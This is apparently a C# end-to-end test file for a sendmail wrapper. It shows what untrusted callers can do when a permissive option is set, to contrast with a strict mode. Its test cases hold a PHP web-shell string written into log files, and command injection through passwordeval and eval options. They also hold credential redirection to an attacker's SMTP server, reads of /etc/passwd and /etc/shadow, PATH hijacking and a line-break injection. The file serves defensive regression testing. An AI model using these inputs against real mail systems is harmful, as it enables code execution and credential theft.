using System.Runtime.Versioning;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Msmtp.Server;
using Msmtp.TestKit;
using Msmtp.Testing;

namespace Msmtp.Cli.Tests.EndToEnd;

/// <summary>
/// What strangers can do to a sendmail without <c>sendmail_options strict</c>: the column "with any" of the table in docs/strict.md. Each
/// attack here is one that <see cref="StrictSendmailTests"/> has refused.
/// </summary>
[UnsupportedOSPlatform("windows")]
public sealed class AnySendmailTests : EndToEndTest
{
    const string Login = "AUTH PLAIN AG1lAHNlY3JldA==";   // NUL me NUL secret
    const string Php = "<?php system($_GET[0]); ?>";

    readonly MailSink own = Start();
    readonly MailSink attackers = Start(new SinkAnswers { Recipient = static _ => new SmtpReply(550, "5.7.1", Php) });

    string Loot => Home.File("loot");

    // $C is a msmtprc with an eval, $K a key with a passphrase, $E the attacker's server; blanks separate words, ^ is one.
    [Theory]
    [InlineData("--passwordeval=touch^$L/x $To")]
    [InlineData("--setting=passwordeval=touch^$L/x $To")]
    [InlineData("--credential-helper=!touch^$L/x $To")]
    [InlineData("--tls=on --tls-cert-file=$K --tls-key-file=$K --tls-key-passwordeval=touch^$L/x $To")]
    [InlineData("-C $C $To")]
    [InlineData("--file=$C $To")]
    [InlineData("-tiC$C")]
    public async Task A_command_runs(string line)
    {
        await RunAsync(line, "auth plain\nuser me");

        Assert.True(File.Exists(Path.Combine(Loot, "x")));
    }

    // The attacker chooses the words by a quoted local part, or by what a server of his replies.
    [Theory]
    [InlineData("-X $L/x.php -f\"$P\"@example.org $To")]
    [InlineData("--logfile=$L/x.php -f\"$P\"@example.org $To")]
    [InlineData("--setting=logfile=$L/x.php -f\"$P\"@example.org $To")]
    [InlineData("-OQueueDirectory=/tmp -X$L/x.php -f\"$P\"@example.org $To")]
    [InlineData("-oQ/tmp -X$L/x.php -f\"$P\"@example.org $To")]
    [InlineData("-X $L/x.php --port=$E $To")]
    public async Task The_log_is_a_program(string line)
    {
        await RunAsync(line);

        Assert.Contains(Php, await File.ReadAllTextAsync(Path.Combine(Loot, "x.php"), Token), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("--port=$E $To")]
    [InlineData("-a default --port=$E $To")]
    [InlineData("--setting=port=$E $To")]
    [InlineData("-a other $To")]
    public async Task The_password_goes_to_the_attackers_server(string line)
    {
        await RunAsync(line);

        Assert.Contains(Login, attackers.Commands);
        Assert.Empty(own.Commands);
    }

    [Fact]
    public async Task A_mail_goes_to_the_attackers_server()
    {
        await RunAsync("--host=127.0.0.1 --port=$E --from=me@example.org $To");

        Assert.NotEmpty(attackers.Commands);
        Assert.Empty(own.Commands);
    }

    [Theory]
    [InlineData("--debug-secrets -v $To", Login)]
    [InlineData("--debug $To", "--> MAIL FROM:<me@example.org>")]
    [InlineData("-v $To", "--> MAIL FROM:<me@example.org>")]
    [InlineData("-d $To", "--> MAIL FROM:<me@example.org>")]
    [InlineData("-P $To", "user = me")]
    [InlineData("-S", "SMTP server at 127.0.0.1")]
    [InlineData("--serverinfo", "SMTP server at 127.0.0.1")]
    [InlineData("--plugins", "plugin                 version")]
    [InlineData("--proxy-host=127.0.0.1 --proxy-port=$E $To", "proxy failure")]
    [InlineData("--doctor", "/etc/msmtprc")]
    [InlineData("--help", "--passwordeval")]
    [InlineData("-C/etc/passwd $To", "/etc/passwd: line 1: unknown command root:x:0:0:")]
    [InlineData("-tC/etc/passwd", "/etc/passwd: line 1: unknown command root:x:0:0:")]
    [InlineData("-C /etc/shadow $To", "/etc/shadow: Permission denied")]
    [InlineData("--plugin=Absent $To", "plugin Absent")]
    [InlineData("--aliases=$A -bv name", "words of a file")]
    [InlineData("-f me@example.org^-X$L/x $To", "is not an address")]
    public async Task Something_is_told(string line, string told)
    {
        var result = await RunAsync(line);

        Assert.Contains(told, result.OutputText + result.ErrorText, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFileSystemEntries(Loot));
    }

    [Fact]
    public async Task Files_are_made_in_a_queue()
    {
        await RunAsync("--queue=always --setting=queue_dir=$L/q $To");

        Assert.NotEmpty(Directory.GetFileSystemEntries(Path.Combine(Loot, "q")));
    }

    // With or without the setting.
    [Fact]
    public async Task A_line_break_in_an_address_is_refused()
    {
        var result = await RunAsync("-f a@b\nRCPT^TO:<c@d> $To");

        Assert.Equal(64, result.ExitCode);
        Assert.Empty(own.Commands);
    }

    [Theory]
    [InlineData("HOME", ".msmtprc")]
    [InlineData("XDG_CONFIG_HOME", "msmtp/config")]
    public async Task A_msmtprc_of_the_callers_counts(string variable, string file)
    {
        var system = Installed();
        system.Write($"sendmail_options any\nhost 127.0.0.1\nport {own.Port}\nfrom me@example.org\n");
        var text = $"host 127.0.0.1\nport {attackers.Port}\nfrom evil@example.com\n";
        File.SetUnixFileMode(Home.Write($"callers/{file}", text), (UnixFileMode)0b110_100_100);
        var command = Plain(system, ["you@example.net"]) with { Environment = EnvironmentWith((variable, Home.File("callers"))) };

        await system.Around(command).RunAsync(Token);

        Assert.Contains("MAIL FROM:<evil@example.com>", attackers.Commands);
    }

    [Fact]
    public async Task The_callers_server_counts_where_there_is_none()
    {
        var system = Installed();
        system.Write("");
        var command = Plain(system, ["you@example.net"]) with
        {
            Environment = EnvironmentWith(("SMTPSERVER", "evil.invalid"), ("EMAIL", "evil@example.com")),
        };

        var result = await system.Around(command).RunAsync(Token);

        Assert.Contains("evil.invalid", result.ErrorText, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_command_is_looked_for_on_the_callers_path()
    {
        var system = Installed();
        system.Write($"""
            sendmail_options any
            host 127.0.0.1
            port {own.Port}
            from me@example.org
            auth plain
            user me
            passwordeval password-of me

            """);
        File.SetUnixFileMode(Home.Write("callers/password-of", $"#!/bin/sh\ntouch {Loot}/x\n"), (UnixFileMode)0b111_101_101);
        var path = $"{Home.File("callers")}:/usr/bin:/bin";
        var command = Plain(system, ["you@example.net"]) with { Environment = EnvironmentWith(("PATH", path)) };

        await system.Around(command).RunAsync(Token);

        Assert.True(File.Exists(Path.Combine(Loot, "x")));
    }

    [Fact]
    public async Task A_typing_mistake_of_the_administrators_is_read_out()
    {
        var system = Installed();
        system.Write("sendmail_options any\nhost 127.0.0.1\nopen-sesame\n");

        var result = await system.Around(Plain(system, ["you@example.net"])).RunAsync(Token);

        Assert.Contains("unknown command open-sesame", result.ErrorText, StringComparison.Ordinal);
    }

    Task<CommandResult> RunAsync(string line, string login = "auth plain\nuser me\npassword secret")
    {
        var system = Installed();
        system.Write($"""
            defaults
            sendmail_options any
            host 127.0.0.1
            from me@example.org
            {login}
            account default
            port {own.Port}
            account other
            port {attackers.Port}

            """);
        return system.Around(Plain(system, Words(line))).RunAsync(Token);
    }

    InstalledSystem Installed()
    {
        Assert.SkipWhen(InstalledSystem.Missing is not null, InstalledSystem.Missing ?? "");
        Directory.CreateDirectory(Loot);
        File.SetUnixFileMode(Loot, (UnixFileMode)0b111_111_111);
        using var certificates = new TestCertificates();
        using var key = (AsymmetricAlgorithm?)certificates.Good.GetRSAPrivateKey() ?? certificates.Good.GetECDsaPrivateKey()!;
        var parameters = new PbeParameters(PbeEncryptionAlgorithm.Aes256Cbc, HashAlgorithmName.SHA256, 1000);
        var pem = $"{certificates.Good.ExportCertificatePem()}\n{key.ExportEncryptedPkcs8PrivateKeyPem("secret", parameters)}\n";
        var hostile = $"eval touch {Loot}/x; echo\nhost 127.0.0.1\nport {attackers.Port}\n";
        foreach (var (name, text) in ((string, string)[])[("attackers", hostile), ("key", pem), ("aliases", "name: words of a file\n")])
            File.SetUnixFileMode(Home.Write(name, text), (UnixFileMode)0b110_100_100);
        return new InstalledSystem(Home, Built(Flavour.Native));
    }

    IReadOnlyList<string> Words(string line) => [.. line.Split(' ').Select(word => word.Replace('^', ' ')
        .Replace("$L", Loot, StringComparison.Ordinal).Replace("$C", Home.File("attackers"), StringComparison.Ordinal)
        .Replace("$K", Home.File("key"), StringComparison.Ordinal).Replace("$A", Home.File("aliases"), StringComparison.Ordinal)
        .Replace("$P", Php, StringComparison.Ordinal).Replace("$E", $"{attackers.Port}", StringComparison.Ordinal)
        .Replace("$To", "you@example.net", StringComparison.Ordinal))];

    CommandRunner Plain(InstalledSystem system, IReadOnlyList<string> arguments) => new(system.Program("sendmail"))
    {
        Arguments = arguments,
        InheritsEnvironment = false,
        Environment = EnvironmentWith(),
        Input = Encoding.ASCII.GetBytes("To: you@example.net\n" + Mail),
    };

    static MailSink Start(SinkAnswers? answers = null) => MailSink.Start(
        static options => options with { RequireTlsForAuth = false, CredentialsCheck = new PasswordTable("me", "secret").CheckAsync },
        answers);

    /// <inheritdoc/>
    protected override void Dispose(bool disposing)
    {
        if (disposing)
            foreach (var sink in (MailSink[])[own, attackers])
                sink.DisposeAsync().AsTask().GetAwaiter().GetResult();
        base.Dispose(disposing);
    }
}
